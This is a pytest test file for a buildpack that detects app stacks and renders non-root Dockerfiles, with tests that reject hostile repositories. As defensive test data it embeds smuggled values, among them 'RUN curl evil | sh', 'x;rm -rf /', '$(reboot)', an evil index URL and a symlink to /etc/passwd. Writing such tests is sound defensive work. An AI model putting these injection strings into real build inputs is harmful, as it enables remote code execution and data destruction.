"""The stacks buildpack without Docker: detection order on file listings,
plans (web command, dependencies), rendered Dockerfiles, and hostile repos."""

from __future__ import annotations

import json
import os

import pytest

import buildpacks
from buildpacks.source import MAX_MANIFEST_BYTES, SourceView
from buildpacks.stacks import STACKS, StackBuildpack, _write_build_files, render, stack
from gitd.core.config import BASE_IMAGE_DEFAULTS, load_settings
from gitd.core.errors import BuildError, GitdError


def detected(files: dict, dirs=(), links=()) -> tuple[str, str] | None:
    view = SourceView.of(files, dirs, links)
    for candidate in STACKS:
        reason = candidate.detect(view)
        if reason:
            return candidate.name, reason
    return None


PACKAGE = json.dumps({"scripts": {"start": "node server.js"}})
WSGI = "from flask import Flask\napp = Flask(__name__)\n"


@pytest.mark.parametrize("files, expected", [
    ({"requirements.txt": ""}, ("python", "found requirements.txt")),
    ({"pyproject.toml": ""}, ("python", "found pyproject.toml")),
    ({"Pipfile": ""}, ("python", "found Pipfile")),
    ({"package.json": PACKAGE, "package-lock.json": "{}"},
     ("node", "found package.json (npm, package-lock.json)")),
    ({"package.json": PACKAGE, "pnpm-lock.yaml": ""}, ("node", "found package.json (pnpm, pnpm-lock.yaml)")),
    ({"package.json": PACKAGE, "yarn.lock": ""}, ("node", "found package.json (yarn, yarn.lock)")),
    ({"package.json": PACKAGE}, ("node", "found package.json (npm, no lockfile)")),
    ({"go.mod": "module x\n"}, ("go", "found go.mod")),
    ({"Cargo.toml": ""}, ("rust", "found Cargo.toml")),
    ({"Gemfile": ""}, ("ruby", "found Gemfile")),
    ({"index.html": ""}, ("static", "found index.html")),
    ({"package.json": json.dumps({"scripts": {"build": "vite build"}})},
     ("static", "package.json has a build script and no start script")),
    # the documented order: python before node before go ... before static
    ({"requirements.txt": "", "package.json": PACKAGE, "index.html": ""}, ("python", "found requirements.txt")),
    ({"go.mod": "", "Cargo.toml": "", "Gemfile": "", "index.html": ""}, ("go", "found go.mod")),
    ({"Cargo.toml": "", "Gemfile": ""}, ("rust", "found Cargo.toml")),
    ({"README.md": "", "uv.lock": ""}, None),
])
def test_detection_order_on_a_listing(files, expected):
    assert detected(files) == expected


def test_the_stacks_come_after_nix_and_dockerfile(tmp_path):
    (tmp_path / "requirements.txt").write_text("gunicorn\n")
    assert buildpacks.detect(tmp_path)[0].name == "python"
    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
    assert buildpacks.detect(tmp_path)[0].name == "dockerfile"
    bp, why = buildpacks.detect(tmp_path, "python")
    assert (bp.name, why) == ("python", "set with buildpacks:set")
    assert buildpacks.names() == ["nix", "dockerfile", "python", "node", "go", "rust", "ruby",
                                  "static"]


def plan(name: str, files: dict, has_web: bool = False, dirs=(), links=()):
    return stack(name).plan(SourceView.of(files, dirs, links), has_web)


def test_python_web_command_from_a_detected_wsgi_or_asgi_app():
    p = plan("python", {"requirements.txt": "Flask\ngunicorn>=21\n", "app.py": WSGI})
    assert p.cmd == ["/bin/sh", "-c", "exec gunicorn --bind 0.0.0.0:${PORT:-5000} app:app"]
    p = plan("python", {"requirements.txt": "fastapi\nuvicorn[standard]\n",
                        "main.py": "import fastapi\napp = FastAPI()\n"})
    assert p.cmd[2] == "exec uvicorn --host 0.0.0.0 --port ${PORT:-5000} main:app"
    p = plan("python", {"requirements.txt": "gunicorn\n",
                        "wsgi.py": "def application(environ, start_response):\n    pass\n"})
    assert p.cmd[2].endswith(" wsgi:application")


def test_python_django_project_and_unreadable_app_files():
    manage = ('import os\nos.environ.setdefault("DJANGO_SETTINGS_MODULE", "mysite.settings")\n')
    p = plan("python", {"requirements.txt": "Django\ngunicorn\n", "manage.py": manage})
    assert p.cmd[2].endswith(" mysite.wsgi:application")
    assert "(mysite/wsgi.py defines a WSGI app)" in p.web
    odd = manage.replace("mysite", "x;rm -rf /")
    with pytest.raises(BuildError, match="add a Procfile"):
        plan("python", {"requirements.txt": "gunicorn\n", "manage.py": odd})
    # a huge or symlinked app.py is not looked into, and does not fail the push by itself
    p = plan("python", {"requirements.txt": "gunicorn\n", "app.py": "#" * (MAX_MANIFEST_BYTES + 1),
                        "main.py": WSGI}, links=("wsgi.py",))
    assert p.cmd[2].endswith(" main:app")


def test_requirements_that_include_other_files_install_after_the_code():
    p = plan("python", {"requirements.txt": "-r requirements/base.txt\ngunicorn\n", "app.py": WSGI})
    text = render(p, {})
    assert "COPY . /app\nRUN pip install -r requirements.txt\n" in text
    assert any("refers to other files" in note for note in p.notes)
    p = plan("python", {"requirements.txt": "# pinned\ngunicorn==23.0.0\n", "app.py": WSGI})
    assert "COPY requirements.txt /tmp/requirements.txt\nRUN pip install" in render(p, {})


def test_python_without_a_server_or_an_app_says_what_to_add():
    with pytest.raises(BuildError, match="add gunicorn to requirements.txt .* app.py"):
        plan("python", {"requirements.txt": "Flask\n", "app.py": WSGI})
    with pytest.raises(BuildError, match="add a Procfile with a `web:` line"):
        plan("python", {"requirements.txt": "requests\n"})
    # a Procfile web line is enough: no convention needed
    assert plan("python", {"requirements.txt": "requests\n"}, has_web=True).cmd is None


def test_pyproject_and_pipfile_dependencies_become_a_generated_requirements_file():
    p = plan("python", {"pyproject.toml": '[project]\nname = "x"\ndependencies = ["gunicorn", '
                        '"six>=1.16"]\n', "uv.lock": "", "app.py": WSGI})
    assert p.generated == {"requirements.txt": "gunicorn\nsix>=1.16\n"}
    assert p.values["requirements"] == ".gitd-build/requirements.txt"
    assert any("uv.lock" in note for note in p.notes)
    p = plan("python", {"pyproject.toml": '[tool.poetry.dependencies]\npython = "^3.11"\n'
                        'gunicorn = "^21.2"\nsix = "*"\n', "app.py": WSGI})
    assert p.generated["requirements.txt"] == "gunicorn>=21.2\nsix\n"
    p = plan("python", {"Pipfile": '[packages]\ngunicorn = "==21.2.0"\nsix = {version = "*"}\n',
                        "app.py": WSGI})
    assert p.generated["requirements.txt"] == "gunicorn==21.2.0\nsix\n"


@pytest.mark.parametrize("deps", [
    '["gunicorn\\nRUN curl evil | sh"]', '["--index-url=http://evil"]', '"gunicorn"', '[1]',
])
def test_hostile_pyproject_dependencies_are_refused(deps):
    with pytest.raises(BuildError, match="pyproject.toml"):
        plan("python", {"pyproject.toml": f"[project]\ndependencies = {deps}\n", "app.py": WSGI})


def test_node_installs_production_dependencies_and_starts_with_npm_start():
    p = plan("node", {"package.json": PACKAGE, "package-lock.json": "{}"})
    assert p.cmd == ["npm", "start"]
    assert p.values["install"] == "npm ci --omit=dev"
    text = render(p, {})
    assert "COPY package.json package-lock.json ./\nRUN npm ci --omit=dev\n" in text
    p = plan("node", {"package.json": json.dumps({"scripts": {"build": "tsc", "start": "node ."}}),
                      "yarn.lock": ""})
    assert p.values["install"] == "corepack enable && yarn install --frozen-lockfile"
    assert "RUN npm run build && npm prune --omit=dev" in render(p, {})
    with pytest.raises(BuildError, match="a `start` script in package.json"):
        plan("node", {"package.json": json.dumps({"scripts": {"test": "x"}})})


@pytest.mark.parametrize("text, error", [
    ("{not json", "package.json is not valid JSON"),
    ("[1, 2]", "package.json is not a JSON object"),
    ('{"scripts": "rm -rf /"}', "scripts must be an object"),
    ("[" * 100000 + "]" * 100000, "package.json is not valid JSON"),
    (" " * (MAX_MANIFEST_BYTES + 1), "larger than 1024 KiB"),
])
def test_hostile_package_json_fails_cleanly(text, error):
    with pytest.raises(BuildError, match=error):
        detected({"package.json": text})


def test_odd_script_names_never_reach_the_dockerfile():
    scripts = {"start": "node s.js", "build\nRUN evil": "x", "$(reboot)": "y"}
    p = plan("node", {"package.json": json.dumps({"scripts": scripts})})
    text = render(p, {})
    assert "evil" not in text and "reboot" not in text


def test_manifests_that_are_symlinks_or_huge_are_refused(tmp_path):
    (tmp_path / "secret").write_text("x")
    os.symlink("/etc/passwd", tmp_path / "package.json")
    (tmp_path / "Cargo.toml").write_text("#" * (MAX_MANIFEST_BYTES + 10))
    view = SourceView.from_dir(tmp_path)
    with pytest.raises(BuildError, match="package.json is a symlink"):
        stack("node").detect(view)
    with pytest.raises(BuildError, match="Cargo.toml is larger than"):
        stack("rust").plan(view, False)


def test_go_rust_ruby_static_plans():
    p = plan("go", {"go.mod": "module example.com/x\n", "go.sum": "", "main.go": ""})
    assert p.cmd == ["/app/server"]
    assert "COPY go.mod go.sum ./\nRUN go mod download\n" in render(p, {})
    with pytest.raises(BuildError, match="no .go files at the build root"):
        plan("go", {"go.mod": "module x\n"}, dirs=("cmd",))
    p = plan("rust", {"Cargo.toml": '[package]\nname = "web-app"\n[[bin]]\nname = "srv"\n'})
    assert p.cmd == ["/app/srv"]
    assert "COPY --chown=10001:10001 --from=build /src/target/release/srv /app/srv" in render(p, {})
    for bad in ('[package]\nname = "x\\nRUN evil"\n', '[package]\nname = "../x"\n', "[workspace]\n"):
        with pytest.raises(BuildError, match="Cargo.toml"):
            plan("rust", {"Cargo.toml": bad})
    with pytest.raises(BuildError, match="a config.ru"):
        plan("ruby", {"Gemfile": ""})
    assert plan("ruby", {"Gemfile": "", "config.ru": ""}).cmd[2].startswith("exec bundle exec rackup")
    p = plan("static", {"index.html": ""})
    assert p.cmd[2] == "exec httpd -f -v -p ${PORT:-5000} -h /site -c /dev/null"


@pytest.mark.parametrize("name", [s.name for s in STACKS])
def test_every_template_is_multi_stage_or_slim_and_runs_as_a_non_root_user(name):
    files = {"python": {"requirements.txt": "gunicorn\n", "app.py": WSGI},
             "node": {"package.json": PACKAGE},
             "go": {"go.mod": "module x\n", "main.go": ""},
             "rust": {"Cargo.toml": '[package]\nname = "x"\n'},
             "ruby": {"Gemfile": "", "config.ru": ""},
             "static": {"package.json": json.dumps({"scripts": {"build": "b"}})}}[name]
    images = {"python": "py:local", "node": "node:local", "go": "go:local", "rust": "rust:local",
              "ruby": "ruby:local", "runtime": "base:local", "static": "busybox:local"}
    text = render(plan(name, files), images)
    froms = [line.split()[1] for line in text.splitlines() if line.startswith("FROM ")]
    assert len(froms) == 2 and all(image.endswith(":local") for image in froms), text
    assert "USER 10001" in text
    if name == "static":  # busybox httpd serves the site, read-only to the user
        assert froms[1] == "busybox:local" and "USER 10001:10001" in text
    else:  # the app owns its working directory and what was copied there
        assert "useradd --uid 10001" in text
        assert "RUN mkdir -p /app && chown 10001:10001 /app\nWORKDIR /app\n" in text
        runtime_stage = text.split("\n\nFROM ")[-1]
        copies = [ln for ln in runtime_stage.splitlines()
                  if ln.startswith("COPY ") and ln.split()[-1].startswith("/app")]
        assert copies and all("--chown=10001:10001" in ln for ln in copies), text
    assert text.splitlines()[-1].startswith("CMD [")
    if name in ("go", "rust"):
        assert froms[1] == "base:local"  # the binary alone, on the runtime image


def test_defaults_are_the_official_images():
    text = render(plan("go", {"go.mod": "module x\n", "main.go": ""}), {})
    assert "FROM golang:1.22 AS build" in text and "FROM debian:bookworm-slim" in text
    assert BASE_IMAGE_DEFAULTS["python"] == "python:3.12-slim"


def test_forcing_a_stack_that_is_not_there_says_what_it_needs(tmp_path):
    (tmp_path / "main.go").write_text("package main\n")
    with pytest.raises(BuildError, match="the python stack needs requirements.txt or "
                                         "pyproject.toml or Pipfile"):
        StackBuildpack(stack("python")).plan(tmp_path, {})


def test_base_images_and_build_network_settings(tmp_path):
    (tmp_path / "gitd.toml").write_text(
        'build_network = "host"\n[base_images]\npython = "gitd-ci/stack-python:latest"\n'
        'runtime = "registry.local:5000/base/debian@sha256:' + "a" * 64 + '"\n')
    settings = load_settings(tmp_path, environ={})
    assert settings.build_network == "host"
    assert settings.base_image("python") == "gitd-ci/stack-python:latest"
    assert settings.base_image("node") == "node:20-slim"
    env = load_settings(tmp_path, environ={"GITD_BASE_IMAGES": "go=my/go:1"})
    assert env.base_images == {"go": "my/go:1"}


@pytest.mark.parametrize("toml, error", [
    ('[base_images]\nperl = "perl:5"\n', "unknown role 'perl'"),
    ('[base_images]\npython = "py\\nRUN evil"\n', "not an image reference"),
    ('[base_images]\npython = "Python:3"\n', "not an image reference"),
    ('[base_images]\npython = 3\n', "not an image reference"),
    ('base_images = "python"\n', "expected ROLE=IMAGE"),
    ('build_network = "host; rm"\n', "not a network name"),
    ('build_network = ["host"]\n', "not a table or list"),
    ('ssh_port = {a = 1}\n', "not a table or list"),
])
def test_hostile_settings_are_refused(tmp_path, toml, error):
    (tmp_path / "gitd.toml").write_text(toml)
    with pytest.raises(GitdError, match=error):
        load_settings(tmp_path, environ={})


def test_build_files_go_under_their_own_directory_and_the_dockerfile_is_ignored(tmp_path):
    p = plan("python", {"pyproject.toml": '[project]\ndependencies = ["gunicorn"]\n',
                        "app.py": WSGI})
    (tmp_path / ".dockerignore").write_text("*.log")
    path = _write_build_files(tmp_path, p, "FROM x\n")
    assert path == tmp_path / ".gitd-build" / "Dockerfile"
    assert (tmp_path / ".gitd-build" / "requirements.txt").read_text() == "gunicorn\n"
    assert (tmp_path / ".dockerignore").read_text() == (
        "*.log\n!.gitd-build\n!.gitd-build/*\n.gitd-build/Dockerfile\n")
    with pytest.raises(BuildError, match="the repository has .gitd-build"):
        _write_build_files(tmp_path, p, "FROM x\n")


@pytest.mark.parametrize("name", [".dockerignore", ".gitd-build"])
def test_build_files_refuse_symlinks_planted_by_the_repo(tmp_path, name):
    outside = tmp_path / "outside"
    outside.mkdir()
    root = tmp_path / "src"
    root.mkdir()
    os.symlink(outside / "x", root / name)
    with pytest.raises(BuildError, match=f"{name} is a symlink"):
        _write_build_files(root, plan("static", {"index.html": ""}), "FROM x\n")
    assert list(outside.iterdir()) == []


def test_a_dockerignore_that_is_a_directory_fails_cleanly(tmp_path):
    (tmp_path / ".dockerignore").mkdir()
    with pytest.raises(BuildError, match=".dockerignore is not a regular file"):
        _write_build_files(tmp_path, plan("static", {"index.html": ""}), "FROM x\n")
    assert not (tmp_path / ".gitd-build").exists()


@pytest.mark.parametrize("installed", [(), ("static.Dockerfile.j2",)])
def test_a_template_missing_from_the_installation_is_a_clear_build_error(
        tmp_path, monkeypatch, installed):
    """As a wheel without templates/stacks/ had it: no `internal error
    (TemplateNotFound)`, but which file is missing and what to do."""
    import jinja2

    from buildpacks import stacks

    for name in installed:  # the template, without the _common.j2 it includes
        (tmp_path / name).write_text((stacks.TEMPLATES / name).read_text())
    monkeypatch.setattr(stacks, "_ENV", jinja2.Environment(
        loader=jinja2.FileSystemLoader(str(tmp_path)), undefined=jinja2.StrictUndefined))
    static = plan("static", {"index.html": "<p>hi</p>"})
    missing = "static.Dockerfile.j2" if not installed else "_common.j2"
    with pytest.raises(BuildError, match=f"template {missing} is missing .* reinstall it"):
        render(static, {})


def test_a_missing_traefik_template_is_a_clear_error(monkeypatch):
    import jinja2

    from gitd import traefik

    monkeypatch.setattr(traefik, "_templates", jinja2.Environment(loader=jinja2.DictLoader({})))
    with pytest.raises(GitdError, match="template traefik.yml.j2 is missing"):
        traefik.render("traefik.yml.j2")


def test_build_stages_carry_the_app_label_only_when_built_for_an_app():
    p = plan("python", {"requirements.txt": "gunicorn\n", "app.py": WSGI})
    text = render(p, {}, "main/shop")
    build, final = text.split("\n\nFROM ")
    assert 'LABEL "gitd.build-stage"="main/shop"' in build and "LABEL" not in final
    assert "LABEL" not in render(p, {})  # buildpacks:show: no app
    hostile = render(p, {}, 'main/shop"\nRUN evil')
    assert not any(line.startswith("RUN evil") for line in hostile.splitlines())
    for name, files in (("static", {"index.html": ""}),
                        ("static", {"package.json": json.dumps({"scripts": {"build": "b"}})}),
                        ("go", {"go.mod": "module x\n", "main.go": ""})):
        build = render(plan(name, files), {}, "i/a").split("\n\nFROM ")[0]
        assert 'LABEL "gitd.build-stage"="i/a"' in build


def test_django_collects_static_files_at_build_time_as_the_app_user():
    manage = 'import os\nos.environ.setdefault("DJANGO_SETTINGS_MODULE", "mysite.settings")\n'
    p = plan("python", {"requirements.txt": "Django>=5\ngunicorn\n", "manage.py": manage})
    text = render(p, {})
    assert p.values["collectstatic"] and any("collectstatic" in n for n in p.notes)
    assert text.index("USER 10001") < text.index("python manage.py collectstatic --noinput")
    assert "python manage.py help collectstatic" in text
    # no manage.py, or no Django among the dependencies: nothing to collect
    assert not plan("python", {"requirements.txt": "Django\n"}, has_web=True).values["collectstatic"]
    p = plan("python", {"requirements.txt": "gunicorn\n", "manage.py": manage})
    assert not p.values["collectstatic"] and "collectstatic" not in render(p, {})


def test_static_sites_are_served_without_dotfiles_symlinks_or_executables():
    for files in ({"index.html": ""}, {"package.json": json.dumps({"scripts": {"build": "b"}})}):
        text = render(plan("static", files), {"static": "bb:local"})
        assert "http.server" not in text and "FROM bb:local\n" in text
        clean = text.index('find /site -mindepth 1 \\( -name ".*" -o -type l -o -name httpd.conf \\) '
                           '-prune')
        assert clean < text.index("FROM bb:local") < text.index("COPY --from=build /site /site")
        assert "chmod 0644" in text
